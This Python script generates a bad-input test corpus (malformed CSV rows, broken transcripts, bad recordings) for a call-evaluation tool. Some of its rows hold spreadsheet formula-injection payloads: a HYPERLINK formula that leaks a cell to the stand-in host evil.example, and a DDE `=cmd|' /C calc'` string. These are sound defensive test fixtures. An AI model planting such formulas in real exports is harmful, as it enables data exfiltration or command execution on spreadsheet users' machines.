#!/usr/bin/env python3
"""Generates the R3 bad-input corpus (bench/corpus/bad-input/) from sample-data/. Deterministic; run it again
after changing a case and commit the output:

    python3 bench/corpus/bad-input/make_corpus.py

Writes:
  bad-rows.csv        one manifest: good rows between bad rows, each bad row with exactly one thing wrong;
                      starts with a UTF-8 BOM, has quoted newlines and huge fields
  expected.csv        per data row: line, call_id, kind, category, expected outcome, field, reason fragment
  files/              the transcripts, recordings, sidecars, tool-call and event files the rows point at
  manifests/          whole-file cases, one manifest each (cases.csv lists the expected outcome of each)
  bad-input.yaml      a job over bad-rows.csv (reports under ./reports)
"""
import csv
import gzip
import io
import json
import os
import shutil
import struct
from pathlib import Path

HERE = Path(__file__).resolve().parent
ROOT = HERE.parent.parent.parent
SAMPLE = ROOT / "sample-data"
FORMATS = SAMPLE / "transcripts" / "formats"
FILES = HERE / "files"
MANIFESTS = HERE / "manifests"

COLUMNS = ["call_id", "agent_id", "external_agent_id", "start_time_utc", "recording", "transcript", "transcript_format",
           "agent_name", "customer_name", "agent_spoke_first", "call_direction", "interface", "conversation_ended_by",
           "multichannel", "custom_metrics", "tags", "sidecar", "tool_calls", "events", "metadata.note"]
START = "2026-11-19T08:00:00Z"
GOOD_URL = "https://recordings.example.com/northwind/nw-2026-11-19-0001.wav"
FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


def write(name, data):
    path = FILES / name
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data if isinstance(data, bytes) else data.encode("utf-8"))
    return "files/" + name


def entry(start, end, speaker, utterance):
    return {"start_offset_ms": start, "end_offset_ms": end, "speaker": speaker, "utterance": utterance}


def make_files():
    if FILES.exists():
        shutil.rmtree(FILES)
    FILES.mkdir(parents=True)
    good = (SAMPLE / "transcripts" / "nw-2026-11-19-0001.json").read_bytes()
    f = {"good": write("good.json", good)}
    f["good-bom"] = write("good-bom.json", b"\xef\xbb\xbf" + good)
    f["good-srt"] = write("good-bom-crlf.srt", (FORMATS / "srt" / "nw-2026-11-19-0009.srt").read_bytes())
    f["good-vtt"] = write("good.vtt", (FORMATS / "webvtt" / "nw-2026-11-19-0008.vtt").read_bytes())
    f["good-assemblyai"] = write("good-assemblyai.json", (FORMATS / "assemblyai" / "nw-2026-11-19-0007.json").read_bytes())
    f["huge-utterance"] = write("huge-utterance.json", json.dumps(
        [entry(300, 3500, "AGENT", "Northwind Support. " * 30_000), entry(4000, 7000, "USER", "Hi.")]))
    # Bluejay JSON, broken
    f["empty"] = write("empty.json", b"")
    f["truncated"] = write("truncated.json", good[: len(good) // 2])
    f["trailing"] = write("trailing-garbage.json", good + b"\n}]garbage")
    f["null"] = write("null.json", "null")
    f["string-offset"] = write("string-offset.json", json.dumps([entry("three hundred", 3500, "AGENT", "Hello.")]))
    f["float-offset"] = write("float-offset.json", json.dumps([entry(300.5, 3500, "AGENT", "Hello.")]))
    f["negative"] = write("negative-offset.json", json.dumps([entry(-120, 3500, "AGENT", "Hello."), entry(4000, 7000, "USER", "Hi.")]))
    f["end-before-start"] = write("end-before-start.json", json.dumps([entry(3500, 300, "AGENT", "Hello."), entry(4000, 7000, "USER", "Hi.")]))
    f["robot"] = write("robot-speaker.json", json.dumps([entry(300, 3500, "ROBOT", "Hello."), entry(4000, 7000, "USER", "Hi.")]))
    f["invalid-utf8"] = write("invalid-utf8.json", good.replace(b"Nora", b"No\xc3\x28ra", 1))
    f["utf16"] = write("utf16.json", b"\xff\xfe" + good.decode("utf-8").encode("utf-16-le"))
    f["nesting"] = write("nesting-bomb.json", "[" * 5000 + "]" * 5000)
    f["nan"] = write("nan.json", '[{"start_offset_ms": NaN, "end_offset_ms": 3500, "speaker": "AGENT", "utterance": "Hello."}]')
    # other formats, broken
    vtt = (FORMATS / "webvtt" / "nw-2026-11-19-0008.vtt").read_text("utf-8")
    cut = vtt.index("00:00:07.734 --> ") + len("00:00:07.734 --> 00:0")
    f["vtt-truncated"] = write("webvtt-truncated.vtt", vtt[:cut])
    f["vtt-comma"] = write("webvtt-comma-ms.vtt", (FORMATS / "broken" / "webvtt-comma-milliseconds.vtt").read_bytes())
    srt = (FORMATS / "srt" / "nw-2026-11-19-0009.srt").read_bytes()[3:].decode("utf-8")
    f["srt-cp1252"] = write("srt-windows-1252.srt", srt.replace("Carlos Mendoza: I was", "Carlos Méndez: I was").encode("cp1252"))
    f["srt-bad-time"] = write("srt-bad-timestamp.srt", srt.replace("00:00:05,638 --> 00:00:09,161", "00:00:05,638 --> 00:00:9.161", 1))
    aws = (FORMATS / "aws-transcribe" / "nw-2026-11-19-0003.json").read_bytes()
    f["aws-truncated"] = write("aws-transcribe-truncated.json", aws[: len(aws) * 2 // 3])
    f["aws-non-numeric"] = write("aws-transcribe-non-numeric.json", (FORMATS / "broken" / "aws-transcribe-non-numeric-time.json").read_bytes())
    dg = json.loads((FORMATS / "deepgram" / "nw-2026-11-19-0005.json").read_text("utf-8"))
    dg["results"]["utterances"][0]["start"] = -1.25
    f["deepgram-negative"] = write("deepgram-negative-start.json", json.dumps(dg))
    aai = json.loads((FORMATS / "assemblyai" / "nw-2026-11-19-0007.json").read_text("utf-8"))
    aai["status"], aai["error"], aai["utterances"] = "error", "Download error, unable to download audio", None
    f["assemblyai-error"] = write("assemblyai-status-error.json", json.dumps(aai))
    cl = json.loads((FORMATS / "contact-lens" / "nw-2026-11-19-0004.json").read_text("utf-8"))
    cl["Transcript"][1]["BeginOffsetMillis"] = "4 seconds"
    f["contact-lens-string"] = write("contact-lens-string-offset.json", json.dumps(cl))
    vapi = (FORMATS / "vapi" / "nw-2026-11-19-0010.json").read_bytes()
    f["vapi-truncated"] = write("vapi-truncated.json", vapi[: len(vapi) // 3])
    f["retell-end-before-start"] = write("retell-end-before-start.json", (FORMATS / "broken" / "retell-end-before-start.json").read_bytes())
    plain = (FORMATS / "plain-json" / "nw-2026-11-19-0012.json").read_text("utf-8")
    f["plain-utf16"] = write("plain-json-utf16.json", plain.encode("utf-16"))
    f["plain-non-numeric"] = write("plain-json-non-numeric.json", (FORMATS / "broken" / "plain-json-non-numeric-start.json").read_bytes())
    # recordings
    f["not-audio"] = write("not-audio.wav", "this is a text file named .wav\n")
    f["empty-wav"] = write("empty.wav", b"")
    pcm = b"\x00\x00" * 40_000  # 80,000 bytes of silence: 5 s of 8 kHz 16-bit mono, over the job's 64KB cap
    f["big-wav"] = write("too-big.wav", b"RIFF" + struct.pack("<I", 36 + len(pcm)) + b"WAVEfmt " + struct.pack("<IHHIIHH", 16, 1, 1, 8000, 16000, 2, 16)
                         + b"data" + struct.pack("<I", len(pcm)) + pcm)
    # sidecars, tool calls, events
    f["sidecar-bad-json"] = write("sidecar-bad-json.json", '{"participants": [{"role": "AGENT", "name": "Nora"},')
    f["sidecar-array"] = write("sidecar-array.json", '[{"role": "AGENT"}]')
    f["sidecar-three"] = write("sidecar-three-participants.json", json.dumps({"participants": [
        {"role": "AGENT", "name": "Nora"}, {"role": "USER", "name": "Maria"}, {"role": "USER", "name": "Maria's husband"}]}))
    f["tools-negative"] = write("tool-calls-negative.json", json.dumps([{"name": "lookup_order", "start_offset_ms": -5}]))
    f["tools-bad-json"] = write("tool-calls-bad-json.json", "[{'name': 'lookup_order'}]")
    f["events-end-before-start"] = write("events-end-before-start.json", json.dumps([{"title": "Hold", "start_offset_ms": 9000, "end_offset_ms": 4000}]))
    return f


def rows(f):
    """(call_id, {column: value} | raw list, outcome, kind, category, field, reason fragment)."""
    g = {"start_time_utc": START, "transcript": f["good"], "agent_name": "Nora (Northwind AI)", "customer_name": "Maria Alvarez",
         "call_direction": "INBOUND"}

    def ok(call_id, kind, category, **over):
        return (call_id, {**g, **over}, "EVALUATED", kind, category, "", "")

    def bad(call_id, kind, category, field, reason, **over):
        return (call_id, {**g, **over}, "REJECTED", kind, category, field, reason)

    return [
        ok("r3-good-01", "plain good row (first data row, after the UTF-8 BOM of the header)", "BOM"),
        bad("", "empty call_id", "missing value", "call_id", "call_id is empty"),
        bad("   ", "call_id of spaces only", "missing value", "call_id", "call_id is empty"),
        bad("r3-good-01", "call_id repeated from line 2", "duplicate", "call_id", "duplicate call_id"),
        bad("r3-bad-agents", "agent_id and external_agent_id both set", "conflict", "agent_id", "both agent_id and external_agent_id",
            agent_id="1234", external_agent_id="nora-prod"),
        bad("r3-bad-time-format", "start time 19/11/2026 14:00", "wrong type", "start_time_utc", "is not an ISO-8601 time",
            start_time_utc="19/11/2026 14:00"),
        bad("r3-bad-time-local", "start time without offset", "wrong type", "start_time_utc", "it has no offset",
            start_time_utc="2026-11-19T14:00:00"),
        bad("r3-bad-time-epoch", "start time as epoch seconds (a number)", "wrong type", "start_time_utc", "is not an ISO-8601 time",
            start_time_utc="1763539200"),
        bad("r3-bad-time-empty", "start time missing", "missing value", "start_time_utc", "start_time_utc is empty", start_time_utc=""),
        bad("r3-bad-time-newline", "quoted newline inside the start time", "quoted newline", "start_time_utc", "is not an ISO-8601 time",
            start_time_utc="2026-11-19\nT08:00:00Z"),
        ok("r3-good-02", "customer name with a quoted newline and a \"quoted\" word, after a 2-line record", "quoted newline",
           customer_name='Maria "Mia"\nAlvarez'),
        bad("r3-bad-direction", "call_direction SIDEWAYS", "wrong type", "call_direction", "unknown call_direction 'SIDEWAYS'",
            call_direction="SIDEWAYS"),
        bad("r3-bad-interface", "interface FAX", "wrong type", "interface", "unknown interface 'FAX'", interface="FAX"),
        bad("r3-bad-ended-by", "conversation_ended_by ROBOT", "wrong type", "conversation_ended_by", "unknown conversation_ended_by",
            conversation_ended_by="ROBOT"),
        bad("r3-bad-multichannel", "multichannel 'maybe'", "wrong type", "multichannel", "must be true or false", multichannel="maybe"),
        bad("r3-bad-spoke-first", "agent_spoke_first '2'", "wrong type", "agent_spoke_first", "must be true or false", agent_spoke_first="2"),
        bad("r3-bad-format-name", "transcript_format docx", "wrong type", "transcript_format", "unknown transcript format 'docx'", transcript_format="docx"),
        bad("r3-bad-metric", "custom metric id not a UUID", "wrong type", "custom_metrics", "is not a UUID", custom_metrics="accuracy"),
        bad(FORMULA, "formula as call_id and as custom metric", "formula injection", "custom_metrics", "is not a UUID",
            custom_metrics="=1+1"),
        ok("+SUM(1,2)", "formula-like call_id (+)", "formula injection", tags="=cmd|' /C calc'!A0;nightly"),
        ok("@SUM(A1)", "formula-like call_id (@)", "formula injection", **{"metadata.note": "=HYPERLINK(\"http://evil.example\")"}),
        ok("-2+3", "formula-like call_id (-)", "formula injection"),
        ok("\t=1+1", "formula after a tab (the tab is stripped)", "formula injection"),
        bad("r3-bad-url-long", "recording URL of 2,300 characters", "huge field", "recording", "at most 2083",
            recording="https://recordings.example.com/" + "a" * 2269),
        bad("r3-bad-transcript-url-long", "transcript URL of 5,000 characters", "huge field", "transcript", "at most 2083",
            transcript="https://transcripts.example.com/" + "t" * 4968),
        bad("r3-bad-huge-enum", "call_direction of 20,000 characters", "huge field", "call_direction", "unknown call_direction",
            call_direction="X" * 20_000),
        ok("r3-good-03", "metadata field of 300,000 characters", "huge field", **{"metadata.note": "m" * 300_000}),
        ok("r3-good-04", "utterance of 570 KB in the transcript", "huge field", transcript=f["huge-utterance"]),
        bad("r3-bad-s3", "recording on s3://, no S3 access", "unreachable", "recording", "cannot read s3://northwind-calls/2026/11/19/0001.wav",
            recording="s3://northwind-calls/2026/11/19/0001.wav"),
        bad("r3-bad-url-space", "recording URL with a space", "wrong type", "recording", "not a valid URL",
            recording="https://recordings.example.com/nw 0001.wav"),
        (None, ["r3-bad-extra-fields", "", "", START, "", f["good"], "", "Nora", "Maria", "", "INBOUND"] + [""] * 9 + ["spill", "over"],
         "REJECTED", "row with 22 fields, header has 20", "wrong shape", "row", "row has 22 cells but the header has 20"),
        (None, ["r3-bad-short-row", "", "", START], "REJECTED", "row cut after the 4th field (truncated line)", "truncated",
         "row", "row has 4 cells but the header has 20"),
        bad("r3-bad-recording-text", "recording file that is text", "wrong type", "recording", "is not a WAV, MP3, MP4 or M4A file",
            recording=f["not-audio"]),
        bad("r3-bad-recording-empty", "recording file of 0 bytes", "truncated", "recording", "is empty", recording=f["empty-wav"]),
        bad("r3-bad-recording-missing", "recording file missing", "missing file", "recording", "file not found",
            recording="files/no-such-recording.wav"),
        bad("r3-bad-recording-cap", "recording over max-recording-size", "huge field", "recording", "over the cap", recording=f["big-wav"]),
        bad("r3-bad-transcript-missing", "transcript file missing", "missing file", "transcript", "file not found",
            transcript="files/no-such-transcript.json"),
        bad("r3-bad-transcript-dir", "transcript path is a directory", "wrong type", "transcript", "directory", transcript="files"),
        bad("r3-bad-json-empty", "transcript of 0 bytes", "truncated", "transcript", "is empty", transcript=f["empty"]),
        bad("r3-bad-json-truncated", "transcript JSON cut in half", "truncated", "transcript", "is not valid JSON", transcript=f["truncated"]),
        bad("r3-bad-json-trailing", "garbage after the JSON", "bad JSON", "transcript", "is not valid JSON", transcript=f["trailing"]),
        bad("r3-bad-json-null", "transcript JSON null", "bad JSON", "transcript", "in no transcript format", transcript=f["null"]),
        bad("r3-bad-json-nan", "NaN as an offset", "bad JSON", "transcript", "is not valid JSON", transcript=f["nan"]),
        bad("r3-bad-json-nesting", "5,000 nested arrays", "bad JSON", "transcript", "nesting depth", transcript=f["nesting"]),
        bad("r3-bad-offset-string", "offset is a string", "wrong type", "transcript[0].start_offset_ms", "must be an integer",
            transcript=f["string-offset"]),
        bad("r3-bad-offset-float", "offset is 300.5", "wrong type", "transcript[0].start_offset_ms", "must be an integer",
            transcript=f["float-offset"]),
        bad("r3-bad-offset-negative", "negative offset", "out of range", "transcript[0].start_offset_ms", "must be >= 0",
            transcript=f["negative"]),
        bad("r3-bad-end-before-start", "end before start", "out of range", "transcript[0].end_offset_ms", "before", transcript=f["end-before-start"]),
        bad("r3-bad-speaker", "speaker ROBOT", "wrong type", "transcript[0].speaker", "must be AGENT or USER", transcript=f["robot"]),
        bad("r3-bad-utf8", "invalid UTF-8 in the transcript", "invalid UTF-8", "transcript", "is not UTF-8", transcript=f["invalid-utf8"]),
        bad("r3-bad-utf16", "transcript in UTF-16LE with BOM", "encoding", "transcript", "is not UTF-8", transcript=f["utf16"]),
        ok("r3-good-05", "transcript with a UTF-8 BOM", "BOM", transcript=f["good-bom"]),
        ok("r3-good-06", "SRT with BOM and CRLF", "BOM", transcript=f["good-srt"]),
        ok("r3-good-07", "WebVTT", "format", transcript=f["good-vtt"]),
        ok("r3-good-08", "AssemblyAI", "format", transcript=f["good-assemblyai"]),
        bad("r3-bad-vtt-truncated", "WebVTT cut inside a cue timing", "truncated", "transcript.cue 3 (line 11)", "timing line 12", transcript=f["vtt-truncated"]),
        bad("r3-bad-vtt-comma", "WebVTT with SRT-style comma milliseconds", "wrong type", "transcript.cue 3 (line 11)", "expected hh:mm:ss.mmm", transcript=f["vtt-comma"]),
        bad("r3-bad-srt-cp1252", "SRT saved as Windows-1252", "encoding", "transcript", "is not UTF-8", transcript=f["srt-cp1252"]),
        bad("r3-bad-srt-time", "SRT timing 00:00:9.161", "wrong type", "transcript.cue 2 (line 7)", "expected hh:mm:ss,mmm", transcript=f["srt-bad-time"]),
        bad("r3-bad-aws-truncated", "AWS Transcribe output cut at 2/3", "truncated", "transcript", "is not valid JSON", transcript=f["aws-truncated"]),
        bad("r3-bad-aws-time", "AWS Transcribe time not a number", "wrong type",
            "transcript.results.channel_labels.channels[1].items[14].start_time", "expected a number", transcript=f["aws-non-numeric"]),
        bad("r3-bad-deepgram", "Deepgram utterance starting at -1.25 s", "out of range", "transcript.results.utterances[0]",
            "before the call start", transcript=f["deepgram-negative"]),
        bad("r3-bad-assemblyai", "AssemblyAI transcript with status error", "wrong type", "transcript.status", "not 'completed'", transcript=f["assemblyai-error"]),
        bad("r3-bad-contact-lens", "Contact Lens offset '4 seconds'", "wrong type", "transcript.Transcript[1].BeginOffsetMillis",
            "expected whole milliseconds", transcript=f["contact-lens-string"]),
        bad("r3-bad-vapi", "Vapi report cut at 1/3", "truncated", "transcript", "is not valid JSON", transcript=f["vapi-truncated"]),
        bad("r3-bad-retell", "Retell end before start", "out of range", "transcript.call.transcript_with_tool_calls[2]", "before it starts", transcript=f["retell-end-before-start"]),
        bad("r3-bad-plain-utf16", "plain JSON in UTF-16", "encoding", "transcript", "is not UTF-8", transcript=f["plain-utf16"]),
        bad("r3-bad-plain-time", "plain JSON start 'four seconds'", "wrong type", "transcript[2].start", "expected a number of seconds", transcript=f["plain-non-numeric"]),
        bad("r3-bad-format-mismatch", "Bluejay JSON named srt by transcript_format", "wrong type", "transcript", "is not a srt file",
            transcript_format="srt"),
        bad("r3-bad-sidecar-json", "sidecar JSON cut off", "truncated", "sidecar", "is not valid JSON", sidecar=f["sidecar-bad-json"]),
        bad("r3-bad-sidecar-array", "sidecar is an array", "wrong type", "sidecar", "expected a JSON object", sidecar=f["sidecar-array"]),
        bad("r3-bad-sidecar-three", "sidecar with 3 participants", "wrong shape", "participants", "exactly 2 participants",
            sidecar=f["sidecar-three"]),
        bad("r3-bad-tools-negative", "tool call at -5 ms", "out of range", "tool_calls[0].start_offset_ms", ">= 0", tool_calls=f["tools-negative"]),
        bad("r3-bad-tools-json", "tool calls in single quotes", "bad JSON", "tool_calls", "is not valid JSON", tool_calls=f["tools-bad-json"]),
        bad("r3-bad-events", "event ending before it starts", "out of range", "events[0].end_offset_ms", "before",
            events=f["events-end-before-start"]),
        bad("r3-good-09", "NUL character inside the agent name", "control character", "agent_name", "control character U+0000",
            agent_name="Nora\x00(Northwind AI)"),
        ok("r3-good-10", "last row, https recording, no newline at end of file", "truncated", recording=GOOD_URL),
    ]


def make_manifest(f):
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow(COLUMNS)
    expected = []
    line = 2
    for call_id, values, outcome, kind, category, field, reason in rows(f):
        if isinstance(values, list):
            record = values
            call_id = values[0]
        else:
            record = [call_id if c == "call_id" else values.get(c, "") for c in COLUMNS]
        text = io.StringIO()
        csv.writer(text, lineterminator="\n").writerow(record)
        out.write(text.getvalue())
        expected.append([line, call_id, kind, category, outcome, field, reason])
        line += text.getvalue().count("\n")
    data = out.getvalue()
    assert data.endswith("\n")
    (HERE / "bad-rows.csv").write_bytes(b"\xef\xbb\xbf" + data[:-1].encode("utf-8"))  # no newline after the last row
    with open(HERE / "expected.csv", "w", newline="", encoding="utf-8") as out:
        w = csv.writer(out, lineterminator="\n")
        w.writerow(["line", "call_id", "kind", "category", "outcome", "field", "reason_contains"])
        w.writerows(expected)
    return expected


def make_manifests():
    """Whole-file cases: (file, bytes, expected exit code, expected outcome). A FINDING is what calleval should do and
    does not do yet (docs/bench/reliability.md)."""
    if MANIFESTS.exists():
        shutil.rmtree(MANIFESTS)
    MANIFESTS.mkdir()
    header = "call_id,start_time_utc,transcript,agent_name,customer_name\n"
    good = "file-good-{},2026-11-19T08:00:00Z,../files/good.json,Nora (Northwind AI),Maria Alvarez\n"
    cases = [
        ("empty.csv", b"", 2, "refused before the run: the manifest is empty, no execution recorded"),
        ("header-only.csv", header.encode(), 0, "COMPLETED, 0 rows"),
        ("blank-and-comma-lines.csv", (header + "\n\r\n" + good.format(1) + ",,,,\n\n" + good.format(2)).encode(), 0,
         "COMPLETED: blank lines skipped, the ',,,,' line rejected (call_id), 2 evaluated"),
        ("crlf.csv", (header + good.format(1) + good.format(2)).replace("\n", "\r\n").encode(), 0, "COMPLETED, 2 evaluated"),
        ("no-call-id-column.csv", ("id,start_time_utc,transcript\nx-1,2026-11-19T08:00:00Z,../files/good.json\n").encode(), 0,
         "COMPLETED: every row rejected (call_id)"),
        ("truncated-in-quote.csv", (header + good.format(1) + good.format(2) + 'file-cut,2026-11-19T08:00:00Z,../files/good.json,"Nora (North').encode(),
         1, "run FAILED naming line 4 (EOF inside a quoted field): lines 2 and 3 evaluated, line 4 rejected"),
        ("stray-quote.csv", (header + good.format(1) + 'file-stray,2026-11-19T08:00:00Z,../files/good.json,"Nora" (AI),Maria\n' + good.format(2)).encode(),
         1, "run FAILED naming line 3 (character after a closing quote): line 2 evaluated, line 3 rejected, the rest not read"),
        ("utf16.csv", (header + good.format(1)).encode("utf-16"), 2, "refused before the run: UTF-16, save as UTF-8"),
        ("gzip.csv", gzip.compress((header + good.format(1)).encode(), mtime=0), 0, "COMPLETED: gzip read whatever the name, 1 evaluated"),
        ("duplicate-header.csv", ("call_id,call_id,start_time_utc,transcript\nfile-a,file-b,2026-11-19T08:00:00Z,../files/good.json\n").encode(),
         2, "refused before the run naming the duplicate column"),
        ("invalid-utf8-row.csv", (header + good.format(1)).encode() + b"file-latin1,2026-11-19T08:00:00Z,../files/good.json,Nora,Mar\xeda\n"
         + good.format(2).encode(), 0, "FINDING: line 3 rejected, lines 2 and 4 evaluated (today: run FAILED, 'cannot read the header row')"),
        ("long-ids.csv", ("call_id,agent_id,start_time_utc,transcript\n" + "file-ok,1234,2026-11-19T08:00:00Z,../files/good.json\n"
                          + "L" * 1001 + ",1234,2026-11-19T08:00:00Z,../files/good.json\n"
                          + "file-long-agent," + "7" * 201 + ",2026-11-19T08:00:00Z,../files/good.json\n").encode(), 0,
         "FINDING: lines 3 and 4 rejected, line 2 evaluated (today: run FAILED, value too long for call_ledger)"),
    ]
    for name, data, _, _ in cases:
        (MANIFESTS / name).write_bytes(data)
    with open(MANIFESTS / "cases.csv", "w", newline="", encoding="utf-8") as out:
        w = csv.writer(out, lineterminator="\n")
        w.writerow(["file", "expected_exit", "expected"])
        w.writerows([[n, e, o] for n, _, e, o in cases])


def main():
    f = make_files()
    expected = make_manifest(f)
    make_manifests()
    bad = sum(1 for e in expected if e[4] == "REJECTED")
    print(f"bad-rows.csv: {len(expected)} rows, {bad} bad, {len(expected) - bad} good; "
          f"{len(list(FILES.iterdir()))} files; {len(list(MANIFESTS.glob('*.csv'))) - 1} whole-file cases")


if __name__ == "__main__":
    main()
